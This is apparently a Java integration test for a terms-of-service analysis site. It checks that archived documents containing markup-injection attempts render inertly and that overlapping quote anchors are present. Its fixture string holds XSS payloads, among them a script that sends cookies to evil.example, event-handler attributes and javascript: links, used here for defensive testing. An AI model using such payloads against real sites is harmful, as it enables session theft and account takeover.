package org.fineprint.server.publish.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.fineprint.analyze.point.Point;
import org.fineprint.registry.DocumentType;
import org.fineprint.report.Report;
import org.fineprint.server.Pages;
import org.fineprint.server.WebTest;
import org.fineprint.server.analysis.AnalysisFixtures;
import org.fineprint.server.analysis.PublishedReport;
import org.fineprint.server.analysis.PublishedReports;
import org.fineprint.server.analysis.Reanalyzer;
import org.fineprint.server.archive.Archiver;
import org.fineprint.server.registry.DocumentRepository;
import org.fineprint.server.registry.Service;
import org.fineprint.server.registry.ServiceRepository;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The document viewer on archived texts that try to inject markup, and on overlapping quoted passages. */
@WebTest
class DocumentViewerIT {
    /** A terms text with script, event-handler and javascript: link attempts, plus clauses the analyser finds. */
    static final String HOSTILE = """
            # Terms <script>alert('title')</script>

            Welcome! <script>document.location='https://evil.example/?c='+document.cookie</script>

            <img src=x onerror="alert('img')"> <svg onload=alert(1)></svg> <iframe src="https://evil.example"></iframe>

            [Click for a prize](javascript:alert('link')) and [another](JAVASCRIPT:alert(2)) and \
            [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and <a href="javascript:alert(3)">raw</a>.

            We may suspend or terminate your account at any time, for any reason or no reason, without notice.

            We may change these terms at any time without notice to you.

            Any dispute shall be resolved by binding arbitration, and you waive your right to a class action.
            """;

    @LocalServerPort
    int port;
    @Autowired
    ServiceRepository services;
    @Autowired
    DocumentRepository documents;
    @Autowired
    Archiver archiver;
    @Autowired
    Reanalyzer reanalyzer;
    @Autowired
    PublishedReports reports;

    AnalysisFixtures fixtures;
    Pages pages;

    @BeforeEach
    void setUp() {
        fixtures = new AnalysisFixtures(services, documents, archiver);
        pages = new Pages(port);
    }

    @Test
    void documentTextWithScriptsEventHandlersAndJavascriptLinksRendersInert() {
        Service service = fixtures.service("hostile");
        fixtures.version(service, DocumentType.TERMS, HOSTILE, AnalysisFixtures.MONDAY);
        reanalyzer.reanalyze(service.id());

        Pages.Page page = pages.get("/service/" + service.slug() + "/document/terms");
        Document html = page.html();
        Element text = html.selectFirst(".viewer-text");

        assertThat(page.status()).isEqualTo(200);
        assertThat(text).isNotNull();
        assertThat(html.select("script")).allSatisfy(s -> assertThat(s.attr("src")).isEqualTo("/js/site.js"));
        assertThat(text.select("script, img, svg, iframe, object, embed")).isEmpty();
        for (Element e : text.getAllElements()) {
            for (Attribute a : e.attributes()) {
                assertThat(a.getKey()).as("attribute of <" + e.tagName() + ">").doesNotStartWith("on");
                assertThat(a.getValue().toLowerCase()).doesNotContain("javascript:");
            }
        }
        assertThat(text.select("a")).isEmpty();
        assertThat(text.text()).contains("<script>document.location=", "<img src=x onerror=\"alert('img')\">",
                "Click for a prize", "<a href=\"javascript:alert(3)\">raw</a>");
        assertThat(page.body()).doesNotContain("<script>alert", "<img src=x", "href=\"javascript:");
        assertThat(text.select("mark[id^=point-]")).isNotEmpty();

        Document servicePage = pages.get("/service/" + service.slug()).html();
        assertThat(servicePage.select("main script, main img[onerror]")).isEmpty();
    }

    @Test
    void everyPointOfAnAnalysedDocumentHasItsAnchorEvenWhenPassagesOverlap() {
        Service service = fixtures.serviceWithTermsAndPrivacy("anchors");
        reanalyzer.reanalyze(service.id());
        PublishedReport published = reports.findByServiceId(service.id()).orElseThrow();
        Report report = published.report();

        Document html = pages.get("/service/" + service.slug() + "/document/terms").html();

        List<Integer> terms = new java.util.ArrayList<>();
        for (int i = 0; i < report.points().size(); i++) {
            Point point = report.points().get(i);
            if (published.documentType(point) == DocumentType.TERMS) {
                terms.add(i);
                Element anchor = html.getElementById("point-" + i);
                assertThat(anchor).as("point-" + i).isNotNull();
                assertThat(anchor.tagName()).isEqualTo("mark");
                assertThat(anchor.attr("data-q")).isEqualTo("q-" + i + "-1");
            }
        }
        // The fixture repeats a passage for two points (account closure and content deletion).
        assertThat(html.select("mark.hl-overlap, mark.hl-anchor")).isNotEmpty();
        assertThat(html.select(".quoted-points a").eachAttr("href"))
                .containsExactlyElementsOf(terms.stream().map(i -> "#point-" + i).toList());
    }
}
